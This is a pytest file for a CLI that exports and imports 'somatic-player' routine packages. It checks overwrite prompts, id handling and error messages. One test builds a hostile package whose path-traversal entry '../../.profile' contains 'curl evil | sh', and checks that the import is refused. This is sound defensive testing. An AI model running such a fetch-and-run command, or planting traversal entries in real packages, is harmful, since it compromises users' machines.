"""export-routine and import as a user runs them: one summary line and exit 0, or one
``somatic-player: FILE: reason`` line and exit 1 (never a traceback), asking before replacing."""

from __future__ import annotations

import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from somatic_player import cli_routines
from somatic_player.cli import main
from somatic_player.content.package_format import recordings_dir
from tests.content.test_package import clinic_routine, narration, routine_doc, tree, write_routine
from tests.content.test_package_fuzz import GOOD, package


def run(*args: str, home: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "SOMATIC_PLAYER_HOME": str(home)}
    proc = subprocess.run(
        [sys.executable, "-m", "somatic_player", *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        stdin=subprocess.DEVNULL,
    )
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc


def test_a_routine_with_its_recording_goes_from_clinic_to_patient(tmp_path: Path) -> None:
    clinic, patient = tmp_path / "clinic", tmp_path / "patient"
    doc = routine_doc([narration(clip="hello.flac"), {"kind": "silence", "duration_s": 5}])
    source = clinic_routine(clinic, doc, {"hello.flac": {"rate": 48_000}})
    out = tmp_path / "for-anna.somatic"

    made = run("export-routine", "for-anna", "-o", str(out), home=clinic)
    assert made.returncode == 0, made.stderr
    size_kib = max(1, round(out.stat().st_size / 1024))
    assert made.stdout == (
        f"wrote {out} ('For Anna' as routine for-anna, 1 recording, {size_kib} KiB)\n"
    )

    got = run("import", str(out), home=patient)
    assert got.returncode == 0, got.stderr
    target = patient / "routines" / "for-anna.toml"
    assert got.stdout == f"added 'For Anna' as routine for-anna in {target} (1 recording)\n"
    assert target.read_bytes() == source.read_bytes()
    clip = recordings_dir(target) / "hello.flac"
    assert clip.read_bytes() == (recordings_dir(source) / "hello.flac").read_bytes()

    # The imported routine plays its recording: plan finds the clip and uses its real length.
    planned = run("plan", "for-anna", "--no-speech", home=patient)
    assert planned.returncode == 0, planned.stderr


def test_a_refused_package_is_one_line_and_exit_1(tmp_path: Path) -> None:
    hostile = tmp_path / "hostile.somatic"
    hostile.write_bytes(package({**GOOD, "../../.profile": b"curl evil | sh"}))
    home = tmp_path / "home"
    proc = run("import", str(hostile), home=home)
    assert proc.returncode == 1 and proc.stdout == ""
    assert proc.stderr == (
        f"somatic-player: {hostile}: has an entry that points outside the package "
        "('../../.profile': '..' in the path)\n"
    )
    assert tree(tmp_path) == {"hostile.somatic": hostile.read_bytes()}  # not even the home


@pytest.fixture
def made(tmp_path: Path) -> Path:
    """A package of 'for-anna' made in another data folder."""
    out = tmp_path / "for-anna.somatic"
    clinic = tmp_path / "clinic"
    write_routine(clinic / "routines" / "for-anna.toml", routine_doc([narration("New words.")]))
    assert run("export-routine", "for-anna", "-o", str(out), home=clinic).returncode == 0
    return out


@pytest.fixture
def mine(_private_user_home: Path) -> Path:
    """The patient's own 'for-anna' (the autouse fixture's data folder is theirs)."""
    doc = routine_doc([narration("My words.")])
    return write_routine(_private_user_home / "routines" / "for-anna.toml", doc)


def test_an_existing_routine_is_kept_unless_overwrite_is_given(
    made: Path, mine: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = mine.read_bytes()
    assert main(["import", str(made)]) == 1
    err = capsys.readouterr().err
    assert err == (
        f"somatic-player: {made}: your library already has a routine 'for-anna' ({mine}); "
        "use --overwrite to replace it, or --as NEW_ID to keep both\n"
    )
    assert mine.read_bytes() == before
    assert main(["import", str(made), "--overwrite"]) == 0
    assert capsys.readouterr().out.startswith("replaced 'For Anna' as routine for-anna in")
    assert b"New words." in mine.read_bytes()


def test_as_imports_under_another_id(
    made: Path, mine: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["import", str(made), "--as", "for-anna-2"]) == 0
    out = capsys.readouterr().out
    assert "as routine for-anna-2 (renamed from for-anna)" in out
    assert (mine.parent / "for-anna-2.toml").is_file() and b"My words." in mine.read_bytes()
    assert main(["import", str(made), "--as", "Not An Id"]) == 2
    assert "argument --as: 'Not An Id' is not a routine id" in capsys.readouterr().err


@pytest.mark.parametrize(("answer", "code"), [("y\n", 0), ("n\n", 1), ("", 1)])
def test_on_a_terminal_import_asks_before_replacing(
    made: Path,
    mine: Path,
    answer: str,
    code: int,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(cli_routines, "_interactive", lambda: True)
    monkeypatch.setattr(sys, "stdin", io.StringIO(answer))
    assert main(["import", str(made)]) == code
    err = capsys.readouterr().err
    assert err.startswith(f"Replace your routine 'for-anna' ({mine})? [y/N] ")
    assert (b"New words." in mine.read_bytes()) == (code == 0)


def test_a_built_in_id_is_refused_with_the_way_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "easy.somatic"
    assert main(["export-routine", "easy-pace", "-o", str(out)]) == 0
    capsys.readouterr()
    assert main(["import", str(out), "--overwrite"]) == 1
    assert capsys.readouterr().err == (
        f"somatic-player: {out}: 'easy-pace' is already the id of a built-in routine; "
        "import it under another id with --as NEW_ID\n"
    )


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["export-routine", "easy-pace", "-o", "{tmp}/easy.zip"], "must end in .somatic"),
        (["export-routine", "easy-pace", "-o", "{tmp}/no/easy.somatic"], "does not exist"),
        (["export-routine", "no-such-routine", "-o", "{tmp}/x.somatic"], "unknown routine"),
        (["import", "{tmp}/missing.somatic"], "missing.somatic: does not exist"),
    ],
)
def test_command_mistakes_are_one_line_and_exit_1(
    args: list[str], message: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([a.replace("{tmp}", str(tmp_path)) for a in args]) == 1
    err = capsys.readouterr().err
    assert err.startswith("somatic-player: ") and err.count("\n") == 1 and message in err
